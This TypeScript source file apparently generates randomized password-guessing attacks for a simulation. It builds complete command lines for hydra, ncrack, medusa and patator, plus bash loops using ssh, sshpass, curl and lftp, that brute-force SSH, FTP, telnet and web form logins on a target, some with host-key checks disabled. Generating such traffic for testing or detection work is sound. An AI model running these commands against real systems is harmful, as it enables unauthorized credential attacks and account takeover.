/** How each tool of the trade guesses passwords, with settings drawn from wide ranges. */
import { type Stage, type Target, spread } from './episode.ts';

export type Make = (
  stage: Stage,
  target: Target,
  user: string,
) => { argv: string[]; step: string; files?: Record<string, string> };
export const hydra =
  (service: 'ssh' | 'ftp' | 'telnet'): Make =>
  ({ random }, target, user) => {
    const threads = service === 'ssh' ? random.pick([1, 2, 3, 4, 8, 16, 32]) : random.pick([1, 2, 4, 8, 16]);
    const waits = random.pick([[], [], ['-W', String(random.integer(1, 4))], ['-c', String(random.integer(1, 5))]]);
    const settings = [
      '-t',
      String(waits[0] === '-c' ? 1 : threads),
      ...waits,
      ...random.pick([[], ['-e', 'nsr'], ['-u']]),
      ...(random.next() < 0.5 ? ['-l', user] : ['-L', '{folder}/users']),
    ];
    return {
      step: `hydra ${service} ${settings.join(' ')}`,
      argv: [
        'hydra',
        '-I',
        '-q',
        ...settings,
        '-P',
        '{folder}/words',
        '-s',
        String(target.port),
        `${service}://${target.address}`,
      ],
    };
  };

export const ncrack =
  (service: 'ssh' | 'ftp'): Make =>
  ({ random }, target, user) => {
    const settings = [
      `-T${random.integer(1, 5)}`,
      '-g',
      `CL=${random.integer(1, 20)},at=${random.integer(1, 3)},cd=${random.integer(0, 900)}ms`,
    ];
    return {
      step: `ncrack ${service} ${settings.join(' ')}`,
      argv: [
        'ncrack',
        ...settings,
        '--user',
        user,
        '-P',
        '{folder}/words',
        `${service}://${target.address}:${target.port}`,
      ],
    };
  };

export const medusa =
  (module: 'ssh' | 'ftp' | 'telnet'): Make =>
  ({ random }, target, user) => {
    const settings = [
      '-M',
      module,
      '-t',
      String(random.pick(module === 'ssh' ? [1, 1, 2, 3] : [1, 2, 4, 8])),
      ...random.pick([[], ['-e', 'ns']]),
      ...random.pick([[], ['-c', String(random.integer(200, 2000))]]),
    ];
    return {
      step: `medusa ${settings.join(' ')}`,
      argv: [
        'medusa',
        '-h',
        target.address,
        '-n',
        String(target.port),
        '-u',
        user,
        '-P',
        '{folder}/words',
        ...settings,
      ],
    };
  };

export const patator =
  (module: 'ssh_login' | 'ftp_login' | 'telnet_login'): Make =>
  ({ random }, target, user) => {
    const settings = [
      '-t',
      String(random.pick([1, 2, 4, 10])),
      ...random.pick([[], [`--rate-limit=${spread(random, 0.05, 2).toFixed(2)}`]]),
      `--max-retries=${random.integer(0, 2)}`,
    ];
    const prompts =
      module === 'telnet_login'
        ? ['inputs=FILE1\\nFILE0', '1={folder}/users', 'prompt_re=login:|Password:']
        : [`user=${user}`, 'password=FILE0', ...(random.next() < 0.5 ? ['persistent=0'] : [])];
    return {
      step: `patator ${module} ${settings.join(' ')}`,
      argv: [
        'patator',
        module,
        `host=${target.address}`,
        `port=${target.port}`,
        ...prompts,
        '0={folder}/words',
        ...settings,
      ],
    };
  };

/** The client itself in a loop: a new connection for each guess, with all of its key exchange. */
export const sshLoop: Make = ({ random }, target, user) => {
  const parallel = random.pick([1, 1, 2, 4, 10]);
  const pause = spread(random, 0.02, 4).toFixed(2);
  const options = [
    'StrictHostKeyChecking=no',
    'UserKnownHostsFile=/dev/null',
    'PubkeyAuthentication=no',
    `NumberOfPasswordPrompts=${random.integer(1, 3)}`,
    'ConnectTimeout=8',
  ];
  const script = `export SSH_ASKPASS={folder}/ask SSH_ASKPASS_REQUIRE=force; trap 'kill 0' EXIT; for loop in $(seq ${parallel}); do while :; do ssh ${options.map((one) => `-o${one}`).join(' ')} -p ${target.port} ${user}@${target.address} true; sleep ${pause}; done & done; wait`;
  return {
    step: `ssh in ${parallel} loops, pause ${pause} s`,
    argv: ['bash', '-c', script],
    files: { ask: '#!/bin/sh\necho "guess$$"\n' },
  };
};

export const sshpass: Make = ({ random }, target, user) => {
  const pause = spread(random, 0.05, 3).toFixed(2);
  return {
    step: `sshpass loop, pause ${pause} s`,
    argv: [
      'bash',
      '-c',
      `while read -r word; do sshpass -p "$word" ssh -oStrictHostKeyChecking=no -oUserKnownHostsFile=/dev/null -oPreferredAuthentications=password,keyboard-interactive -oConnectTimeout=8 -p ${target.port} ${user}@${target.address} true; sleep ${pause}; done <{folder}/words`,
    ],
  };
};

export const curlFtp: Make = ({ random }, target, user) => {
  const parallel = random.pick([1, 2, 4]);
  const pause = spread(random, 0.02, 3).toFixed(2);
  return {
    step: `curl ftp in ${parallel} loops, pause ${pause} s`,
    argv: [
      'bash',
      '-c',
      `trap 'kill 0' EXIT; for loop in $(seq ${parallel}); do (while read -r word; do curl -s -m 8 -u "${user}:$word$loop" ftp://${target.address}:${target.port}/ -o /dev/null; sleep ${pause}; done <{folder}/words) & done; wait`,
    ],
  };
};

export const lftp: Make = ({ random }, target, user) => {
  const pause = spread(random, 0.02, 2).toFixed(2);
  return {
    step: `lftp loop, pause ${pause} s`,
    argv: [
      'bash',
      '-c',
      `while read -r word; do lftp -e 'set net:max-retries 1; set net:timeout 6; set ftp:ssl-allow no; ls; bye' -u "${user},$word" -p ${target.port} ${target.address}; sleep ${pause}; done <{folder}/words`,
    ],
  };
};

export const hydraForm: Make = ({ random }, target, user) => {
  const settings = ['-t', String(random.pick([1, 2, 4, 8, 16])), ...random.pick([[], ['-W', '1'], ['-e', 'nsr']])];
  return {
    step: `hydra http-get-form ${settings.join(' ')}`,
    argv: [
      'hydra',
      '-I',
      '-q',
      '-l',
      user,
      '-P',
      '{folder}/words',
      ...settings,
      '-s',
      String(target.port),
      target.address,
      'http-get-form',
      '/app/login:user=^USER^&password=^PASS^:F=wrong',
    ],
  };
};
export const patatorForm: Make = ({ random }, target, user) => {
  const settings = [
    '-t',
    String(random.pick([1, 2, 5, 10])),
    ...random.pick([[], [`--rate-limit=${spread(random, 0.05, 1).toFixed(2)}`]]),
  ];
  return {
    step: `patator http_fuzz ${settings.join(' ')}`,
    argv: [
      'patator',
      'http_fuzz',
      `url=http://${target.address}:${target.port}/app/login?user=${user}&password=FILE0`,
      '0={folder}/words',
      'resolve=nobody.example:198.18.0.1', // pycurl refuses an empty one
      '-x',
      'ignore:code=200',
      ...settings,
    ],
  };
};
